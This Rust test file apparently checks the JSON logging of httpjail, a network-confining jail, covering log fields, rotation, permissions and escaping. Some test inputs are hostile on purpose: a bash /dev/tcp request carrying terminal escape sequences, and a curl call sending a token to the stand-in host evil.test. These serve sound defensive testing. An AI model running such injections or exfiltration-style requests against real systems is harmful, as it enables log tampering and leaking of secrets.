//! The JSON log: what a line says, and what it must not let through.

use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::time::Duration;

use httpjail_lab::{JailBuilder, canary};
use serde_json::Value;

use crate::support::{Expect as _, PYTHON, curl_status, has_all, lab};

const ALLOW: &str = r"allow: ^https?://ok\.test/";

#[track_caller]
fn has(event: &Value, fields: &[(&str, Value)]) {
    for (name, wanted) in fields {
        assert_eq!(&event[*name], wanted, "{name} in {event:#}");
    }
}

#[test]
fn an_allowed_request() {
    let lab = lab();
    let curl = ["-X", "POST", "--data", "0123456789", "https://ok.test/bytes/42?q=1"];
    let outcome = curl_status(lab.jail().rule(ALLOW), &curl).run().expect_stdout("200");
    let events = outcome.events_with(&[("event", "request")]);
    assert_eq!(events.len(), 1, "{outcome:#?}");
    has(
        events[0],
        &[
            ("verdict", "allow".into()),
            ("method", "POST".into()),
            ("url", "https://ok.test/bytes/42?q=1".into()),
            ("host", "ok.test".into()),
            ("status", 200.into()),
            ("rule", ALLOW.into()),
            ("comm", "curl".into()),
            (
                "cmdline",
                "curl -sS -o /dev/null -w %{http_code} --max-time 20 -X POST --data 0123456789 https://ok.test/bytes/42?q=1"
                    .into(),
            ),
            ("bytes_in", 10.into()),
            ("bytes_out", 42.into()),
        ],
    );
    for name in ["ts", "dst", "session", "exe"] {
        assert!(events[0][name].is_string(), "{name} in {:#}", events[0]);
    }
    assert!(events[0]["exe"].as_str().unwrap().ends_with("/curl"), "{:#}", events[0]);
    assert!(events[0]["ts"].as_str().unwrap().ends_with('Z'), "{:#}", events[0]);
    for name in ["pid", "cgroup", "seq", "duration_ms"] {
        assert!(events[0][name].is_number(), "{name} in {:#}", events[0]);
    }
}

#[test]
fn a_denied_request() {
    let lab = lab();
    let outcome = curl_status(lab.jail().rule(ALLOW), &["https://evil.test/x"])
        .run()
        .expect_stdout("403");
    let events = outcome.events_with(&[("event", "request")]);
    assert_eq!(events.len(), 1, "{outcome:#?}");
    has(
        events[0],
        &[
            ("verdict", "deny".into()),
            ("method", "GET".into()),
            ("url", "https://evil.test/x".into()),
            ("status", 403.into()),
        ],
    );
    assert!(events[0]["reason"].is_string(), "{:#}", events[0]);
}

#[test]
fn a_log_that_is_rotated_goes_on_at_its_place() {
    let lab = lab();
    let (log, old, go) = (
        lab.fresh_path("log.json"),
        lab.fresh_path("log.json.1"),
        lab.fresh_path("go"),
    );
    let script = format!(
        "curl -sS https://ok.test/before > /dev/null; echo asked; while [ ! -e {} ]; do sleep 0.05; done; \
         curl -sS -o /dev/null -w '%{{http_code}}' https://ok.test/after",
        go.display()
    );
    let jail = lab.jail().rule(ALLOW).log_to(&log).shell(&script).start().unwrap();
    let asked = httpjail_lab::eventually(Duration::from_secs(30), || jail.stdout() == "asked\n");
    assert!(asked, "{} {}", jail.stdout(), jail.stderr());
    std::fs::rename(&log, &old).unwrap();
    std::fs::write(&go, "").unwrap();
    let outcome = jail.wait().unwrap().expect_code(0).expect_stdout("asked\n200");
    let read = |path| std::fs::read_to_string(path).unwrap();
    let (old, new) = (read(&old), read(&log));
    assert!(
        old.contains("\"event\":\"start\"") && !new.contains("\"event\":\"start\""),
        "{old}{new}"
    );
    assert!(
        new.contains("https://ok.test/after") && !old.contains("https://ok.test/after"),
        "{old}{new}"
    );
    // Its line may be written a moment after the program has what it asked for.
    assert!((old + &new).contains("https://ok.test/before"), "{outcome:#?}");
    assert_eq!(std::fs::metadata(&log).unwrap().permissions().mode() & 0o777, 0o600);
}

/// What a command leaves running is recorded when all is over, and that is not too late for a log that was moved.
#[test]
fn a_log_that_is_rotated_last_has_the_last_lines() {
    let lab = lab();
    let [log, old, got, go] = ["log.json", "log.json.1", "got", "go"].map(|name| lab.fresh_path(name));
    let script = format!(
        "curl -sSN https://ok.test/stream/1000000000 > {got} & while [ ! -s {got} ]; do sleep 0.05; done; echo asked; \
         while [ ! -e {go} ]; do sleep 0.05; done",
        got = got.display(),
        go = go.display()
    );
    let jail = lab.jail().rule(ALLOW).log_to(&log).shell(&script).start().unwrap();
    let asked = httpjail_lab::eventually(Duration::from_secs(30), || jail.stdout() == "asked\n");
    assert!(asked, "{} {}", jail.stdout(), jail.stderr());
    std::fs::rename(&log, &old).unwrap();
    std::fs::write(&go, "").unwrap();
    let outcome = jail.wait().unwrap().expect_code(0);
    let new = std::fs::read_to_string(&log).unwrap_or_default();
    assert!(new.contains("https://ok.test/stream/1000000000"), "{new}{outcome:#?}");
}

/// In the jail the log is covered and cannot be renamed. A folder above it can, and is: lines go on where they went.
// Proves: K09.
#[test]
fn a_command_leads_the_log_nowhere_else() {
    let lab = lab();
    let home = lab.home(httpjail_lab::USER);
    let (folder, moved) = (home.join("logs"), home.join("moved"));
    std::fs::create_dir(&folder).unwrap();
    let (user, log) = (Some(httpjail_lab::USER_ID), folder.join("log.json"));
    std::os::unix::fs::chown(&folder, user, user).unwrap();
    let asks = |path: &str| format!("curl -sS -o /dev/null https://ok.test/{path}");
    let script = format!(
        "cd {} && {} && mv logs moved && mkdir logs && {} && echo moved; ls logs",
        home.display(),
        asks("before"),
        asks("after"),
    );
    let jail = lab.jail().as_user().rule(ALLOW).log_to(&log).shell(&script);
    let outcome = jail.run().expect_code(0).expect_stdout("moved");
    let text = std::fs::read_to_string(moved.join("log.json")).unwrap();
    for path in ["before", "after"] {
        assert!(text.contains(&format!("https://ok.test/{path}")), "{text}{outcome:#?}");
    }
}

#[test]
fn what_the_kernel_stopped_tells_its_program() {
    let lab = lab();
    let (log, go) = (lab.fresh_path("log.json"), lab.fresh_path("go"));
    let script = "import os, socket, sys, time\n\
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
        try: s.sendto(b'x', ('192.0.2.1', 9999))\n\
        except PermissionError: print('refused')\n\
        while not os.path.exists(sys.argv[1]): time.sleep(0.05)";
    let line = [PYTHON.as_ref(), "-c".as_ref(), script.as_ref(), go.as_os_str()];
    let jail = lab.jail().log_to(&log).command(line).start().unwrap();
    // It must be there to be looked at.
    let told = || std::fs::read_to_string(&log).is_ok_and(|log| log.contains("\"event\":\"blocked\""));
    assert!(
        httpjail_lab::eventually(Duration::from_secs(30), told),
        "{}",
        jail.stderr()
    );
    std::fs::write(&go, "").unwrap();
    let outcome = jail.wait().unwrap().expect_code(0).expect_stdout("refused");
    let events = outcome.events_with(&[("event", "blocked"), ("dst", "192.0.2.1:9999")]);
    assert_eq!(events.len(), 1, "{outcome:#?}");
    assert!(events[0]["exe"].as_str().unwrap().contains("/python3"), "{outcome:#?}");
    let cmdline = events[0]["cmdline"].as_str().unwrap();
    assert!(
        cmdline.starts_with("/usr/bin/python3 -c import os, socket, sys, time\n"),
        "{cmdline}"
    );
}

#[test]
fn events_are_numbered_and_of_one_session() {
    let lab = lab();
    let script = "curl -sS https://ok.test/ https://evil.test/ http://ok.test/ > /dev/null";
    let outcome = lab.jail().rule(ALLOW).shell(script).run().expect_code(0);
    let numbers: Vec<u64> = outcome
        .events
        .iter()
        .filter_map(|event| event["seq"].as_u64())
        .collect();
    assert_eq!(numbers.len(), outcome.events.len(), "{outcome:#?}");
    assert!(numbers.is_sorted_by(|a, b| a < b), "{numbers:?}");
    assert!(
        outcome
            .events
            .iter()
            .all(|event| event["session"] == outcome.events[0]["session"]),
        "{outcome:#?}"
    );
}

// Proves: K06.
#[test]
fn what_the_jail_chose_is_escaped() {
    let lab = lab();
    let hostile = "printf 'GET /\\033[31m\\233\\342\\200\\256 HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n' > /dev/tcp/ok.test/80; \
                   exec 3<>/dev/tcp/ok.test/80; printf 'GET / HTTP/1.1\\r\\nHost: e\\033vil\\r\\n\\r\\n' >&3; cat <&3";
    let jail = lab.jail().rule(ALLOW).command(["bash", "-c", hostile]);
    let path = lab.fresh_path("hostile.json");
    jail.log_to(&path).run();
    let log = std::fs::read_to_string(&path).unwrap();
    let shown = lab
        .jail()
        .without_log()
        .rule(ALLOW)
        .command(["bash", "-c", hostile])
        .run();
    let raw = |text: &str| {
        text.chars()
            .any(|c| (c.is_control() && c != '\n') || c == '\u{202e}' || c == '\u{fffd}')
    };
    assert!(!raw(&shown.stderr), "{:?}", shown.stderr);
    assert!(log.contains("\"verdict\":\"deny\"") && !raw(&log), "{log:?}");
}

#[test]
fn denials_go_to_stderr_without_their_query() {
    let lab = lab();
    let mark = canary();
    let url = format!("https://evil.test/path?token={mark}");
    let outcome = curl_status(lab.jail().without_log().rule(ALLOW), &[&url])
        .run()
        .expect_stdout("403");
    assert!(
        outcome.stderr.contains("evil.test/path") && !outcome.stderr.contains(&mark),
        "{outcome:#?}"
    );
    let quiet = curl_status(lab.jail().without_log().option("-q").rule(ALLOW), &[&url])
        .run()
        .expect_stdout("403");
    assert_eq!(quiet.stderr, "");
}

#[test]
fn the_rule_of_a_hint_allows_when_it_is_pasted() {
    let lab = lab();
    let asked = ["-X", "PUT", "https://evil.test/it's(new)?token=secret"];
    let run = |rules: &[&str]| {
        let jail = lab.jail().without_log();
        let jail = rules.iter().fold(jail, |jail, word| jail.option(word));
        curl_status(jail, &asked).run()
    };
    let denied = run(&["-r", r"deny: evil\.test"]).expect_stdout("403");
    let (_, hint) = denied
        .stderr
        .split_once("hint: to allow it, before that rule: ")
        .unwrap();
    // As a shell reads it.
    let words = std::process::Command::new("sh")
        .args(["-c", &format!("printf '%s\\n' {hint}")])
        .output()
        .unwrap();
    let words = String::from_utf8(words.stdout).unwrap();
    let words: Vec<&str> = words.lines().chain(["-r", r"deny: evil\.test"]).collect();
    assert_eq!(words[1], r"allow-put: ^https://evil\.test/it's\(new\)(\?|$)");
    run(&words).expect_stdout("200");
}

// Proves: K09.
#[test]
fn the_file_is_the_owners_alone_and_no_link() {
    let lab = lab();
    let log = lab.fresh_path("private.json");
    lab.jail().log_to(&log).command(["true"]).run().expect_code(0);
    assert_eq!(std::fs::metadata(&log).unwrap().permissions().mode() & 0o777, 0o600);

    let (link, target) = (lab.fresh_path("link.json"), lab.fresh_path("target"));
    std::os::unix::fs::symlink(&target, &link).unwrap();
    let outcome = lab.jail().log_to(&link).command(["true"]).run();
    assert!(!target.exists() && outcome.code() != Some(0), "{outcome:#?}");
}

/// Links are not followed to a log, but these names are of what httpjail was started with.
#[test]
fn standard_output_and_error_are_logs() {
    let lab = lab();
    let logged = |to: &str| {
        let options = ["--log", to, "--log-format", "json"];
        let jail = options.iter().fold(lab.jail().without_log(), JailBuilder::option);
        jail.command(["echo", "ran"]).run().expect_code(0)
    };
    let start = r#""event":"start""#;
    let outcome = logged("/dev/stderr");
    assert!(
        outcome.stdout == "ran\n" && outcome.stderr.contains(start),
        "{outcome:#?}"
    );
    for to in ["-", "/dev/stdout"] {
        let outcome = logged(to);
        has_all(&outcome.stdout, &[start, "ran\n", r#""event":"end""#]);
        assert!(outcome.stderr.is_empty() && !Path::new(to).is_file(), "{outcome:#?}");
    }
}
